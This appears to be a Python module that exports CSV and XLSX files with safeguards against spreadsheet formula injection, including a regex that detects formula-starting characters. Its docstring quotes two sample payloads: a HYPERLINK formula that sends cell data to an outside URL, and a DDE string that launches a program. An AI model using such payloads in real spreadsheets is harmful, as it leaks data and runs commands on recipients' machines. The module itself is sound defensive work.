"""Tables for spreadsheet programs: CSV and XLSX in which no cell from user data runs as a formula.

Excel, WPS and LibreOffice read a cell that begins with `=`, `+`, `-` or `@` as a formula — so a
document title `=HYPERLINK("http://…/?"&A1,"详情")` sends the sheet away when clicked, and
`-2+3+cmd|' /C calc'!A0` starts a program through DDE. Tab and carriage return are trimmed by
some imports in front of them, and IME input turns the full-width ＝＋－＠ into formulas too.
Every export writes through `csv_bytes` and `xlsx_bytes`, which keep such text as text (OWASP
"CSV Injection"): in CSV with a leading single quote, in XLSX as an explicit string cell marked
"quote prefix" (Excel keeps it text even when the cell is edited). Numbers and dates the product
computes are passed as int, float or date and stay numbers and dates.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from typing import TypeAlias

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Font

CellValue: TypeAlias = str | int | float | dt.date | None

XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIMETYPE = "text/csv; charset=utf-8"


_FORMULA_START = re.compile(r"[\t\r]|\s*[=+\-@＝＋－＠]")  # = + - @ (and full-width), tab, CR; also after blanks


def formula_like(text: str) -> bool:
    """Would a spreadsheet program read this text as a formula, now or once leading blanks are trimmed?"""
    return _FORMULA_START.match(text) is not None


def csv_cell(value: CellValue) -> str | int | float:
    """One CSV cell: text that could start a formula gets a leading single quote."""
    if value is None:
        return ""
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, str):
        return "'" + value if formula_like(value) else value
    return value


def csv_bytes(*, header: Sequence[str], rows: Iterable[Sequence[CellValue]]) -> bytes:
    """UTF-8 with a byte-order mark: without it, Excel on Chinese Windows reads GBK and garbles it."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([csv_cell(h) for h in header])
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(*, title: str, header: Sequence[str], rows: Iterable[Sequence[CellValue]]) -> bytes:
    """One sheet named `title` (Excel allows 31 characters), a bold header row, then `rows`."""
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = title[:31]
    bold = Font(bold=True)
    for column, heading in enumerate(header, start=1):
        cell = sheet.cell(row=1, column=column)
        _put(cell, heading)
        cell.font = bold
    for row_number, row in enumerate(rows, start=2):
        for column, value in enumerate(row, start=1):
            _put(sheet.cell(row=row_number, column=column), value)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _put(cell: Cell, value: CellValue) -> None:
    """Text is always a string cell (never a formula); numbers and dates keep their type."""
    if value is None:
        return
    if not isinstance(value, str):
        cell.value = value
        return
    text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)  # control characters openpyxl refuses to write
    cell.value = text
    cell.data_type = "s"  # openpyxl made "=…" a formula ("f"); a string cell holds the same text
    if formula_like(text):
        cell.quotePrefix = True
